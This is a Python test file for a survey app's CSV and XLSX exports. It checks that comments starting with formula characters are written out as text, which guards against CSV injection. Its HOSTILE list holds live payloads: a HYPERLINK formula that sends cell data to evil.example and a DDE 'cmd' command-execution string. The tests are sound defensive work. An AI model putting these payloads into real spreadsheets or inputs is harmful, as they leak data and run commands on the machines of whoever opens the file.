"""Downloads never turn text from outside into spreadsheet formulas (CSV injection).

OWASP, "CSV Injection": a cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or
carriage return) is run as a formula by Excel and LibreOffice; the defence is to write such
text as text: a string-typed cell in XLSX, a leading ``'`` in CSV. Numbers, negative gaps
included, stay numbers.
"""

import csv
import io

from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlmodel import Session

from api.exports.cells import append_row, csv_cell
from survey.models import Role
from tests.factories import FixedClock, answer_through_link, make_place
from tests.web import add_user, log_in

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]


def test_a_formula_in_a_comment_downloads_as_text_in_csv_and_xlsx(
    client: TestClient, session: Session, clock: FixedClock
) -> None:
    """Customers' comments that look like formulas come back in the comments table's CSV
    with a leading ``'`` and in its XLSX as string cells holding exactly what was typed;
    an ordinary comment is unchanged and the gaps table's negative numbers stay numbers."""
    place = make_place(session, now=clock.now, slug="inject")
    comments = [*HOSTILE, "排队太久"]
    for i, comment in enumerate(comments):
        answer_through_link(
            session, place.link.token, [3] * 22, now=clock.now, key=f"k{i}", comment=comment
        )
    add_user(session, clock, "chen", Role.manager, [place.organisation.id or 0])
    log_in(client, "chen")
    base = f"/manager/campaigns/{place.campaign.id}"

    text = client.get(f"{base}/comments/export/comments.csv", params={"lang": "en"}).text
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    written = {row["Comment"] for row in rows}
    assert written == {"'" + c for c in HOSTILE} | {"排队太久"}

    content = client.get(f"{base}/comments/export/comments.xlsx", params={"lang": "en"}).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    heading = [cell.value for cell in sheet[1]]
    column = heading.index("Comment") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {cell.value for cell in cells} == set(comments)
    assert {cell.data_type for cell in cells} == {"s"}

    gaps = client.get(f"{base}/overview/export/gaps.csv", params={"lang": "en"}).text
    gap_rows = list(csv.DictReader(io.StringIO(gaps.lstrip("\ufeff"))))
    assert {float(row["Gap"]) for row in gap_rows} == {-3.0}


def test_cells_keep_numbers_and_plain_text_and_escape_formula_starts() -> None:
    """The two writers on their own: every formula start is escaped, nothing else is."""
    assert [csv_cell(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
    assert csv_cell("李娜") == "李娜" and csv_cell(-1.5) == -1.5 and csv_cell(None) is None
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    append_row(sheet, ["=1+1", -2.5, "plain"])
    buffer = io.BytesIO()
    book.save(buffer)
    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert loaded is not None
    assert [(c.value, c.data_type) for c in loaded[1]] == [
        ("=1+1", "s"),
        (-2.5, "n"),
        ("plain", "s"),
    ]
